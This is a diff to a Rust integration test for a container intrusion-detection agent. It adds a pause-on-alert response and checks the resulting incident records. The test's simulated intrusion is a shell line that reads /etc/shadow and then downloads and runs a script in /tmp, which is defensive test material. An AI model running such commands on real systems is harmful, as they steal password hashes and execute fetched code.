@@ -158,7 +158,15 @@ fn agent_learns_a_container_and_alerts_on_an_intrusion_within_two_seconds() {
     let listen = "127.0.0.1:19464";
     let mut agent = Agent(
         mamori()
-            .args(["agent", "--quiet", "--listen", listen, "--models"])
+            .args([
+                "agent",
+                "--quiet",
+                "--listen",
+                listen,
+                "--on-alert",
+                "pause",
+                "--models",
+            ])
             .arg(&models)
             .arg("--alerts")
             .arg(&alerts)
@@ -197,6 +205,11 @@ fn agent_learns_a_container_and_alerts_on_an_intrusion_within_two_seconds() {
 
     let intrusion = "id; cat /etc/shadow; wget -q -O /tmp/.x http://127.0.0.1:8080/fw.sh; \
                      chmod +x /tmp/.x; /tmp/.x; ps; kill -0 1";
+    // a false alarm in the quiet period (at most one is tolerated below) has already paused a
+    if docker(&["inspect", "-f", "{{.State.Paused}}", a]) == "true" {
+        eprintln!("a was paused after a false alarm; unpausing it for the intrusion");
+        docker(&["unpause", a]);
+    }
     let t0 = Instant::now();
     docker(&["exec", a, "sh", "-c", intrusion]);
     let mut latency = None;
@@ -204,7 +217,7 @@ fn agent_learns_a_container_and_alerts_on_an_intrusion_within_two_seconds() {
         if alerts_in(&alerts).len() > before.len()
             && alerts_in(&alerts)[before.len()..]
                 .iter()
-                .any(|x| x["subject"]["name"] == a)
+                .any(|x| x["subject"]["name"] == a && x["record"] == "alert")
         {
             latency = Some(t0.elapsed());
             break;
@@ -217,7 +230,7 @@ fn agent_learns_a_container_and_alerts_on_an_intrusion_within_two_seconds() {
     let new: Vec<Value> = alerts_in(&alerts)[before.len()..].to_vec();
     let first = new
         .iter()
-        .find(|x| x["subject"]["name"] == a)
+        .find(|x| x["subject"]["name"] == a && x["record"] == "alert")
         .expect("alert for a");
     for field in ["time", "detector", "score", "threshold", "evidence"] {
         assert!(!first[field].is_null(), "alert has {field}: {first}");
@@ -233,6 +246,41 @@ fn agent_learns_a_container_and_alerts_on_an_intrusion_within_two_seconds() {
     assert!(!first["subject"]["id"].is_null());
     assert_eq!(first["subject"]["image"], IMAGE);
 
+    // --on-alert pause: the intruded container is frozen, with a response incident that holds
+    // the alert, the container's log tail and state, and the pause's timing
+    let t1 = Instant::now();
+    while docker(&["inspect", "-f", "{{.State.Paused}}", a]) != "true" {
+        assert!(t1.elapsed() < Duration::from_secs(10), "{a} was not paused");
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    let response = loop {
+        let found = alerts_in(&alerts)
+            .into_iter()
+            .find(|r| r["record"] == "incident" && r["kind"] == "response");
+        if let Some(r) = found {
+            break r;
+        }
+        assert!(
+            t1.elapsed() < Duration::from_secs(10),
+            "no response incident"
+        );
+        std::thread::sleep(Duration::from_millis(50));
+    };
+    assert_eq!(response["subject"]["name"], a, "{response}");
+    assert_eq!(response["alerts"][0]["source"], "syscalls");
+    assert_eq!(
+        response["evidence"]["container_state"]["state"]["Running"],
+        true
+    );
+    let acts: Vec<&str> = response["actions"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|x| x["action"].as_str().unwrap())
+        .collect();
+    assert_eq!(acts, vec!["collect-evidence", "pause"], "{response}");
+    assert_eq!(response["actions"][1]["outcome"], "succeeded");
+
     // the other container keeps running its normal workload
     std::thread::sleep(Duration::from_secs(10));
     let all = alerts_in(&alerts);
@@ -241,7 +289,10 @@ fn agent_learns_a_container_and_alerts_on_an_intrusion_within_two_seconds() {
         b_alerts.is_empty(),
         "the untouched container alerted: {b_alerts:?}"
     );
-    let a_normal = before.iter().filter(|x| x["subject"]["name"] == a).count();
+    let a_normal = before
+        .iter()
+        .filter(|x| x["subject"]["name"] == a && x["record"] == "alert")
+        .count();
     assert!(
         a_normal <= 1,
         "false alarms on a during normal operation: {before:?}"
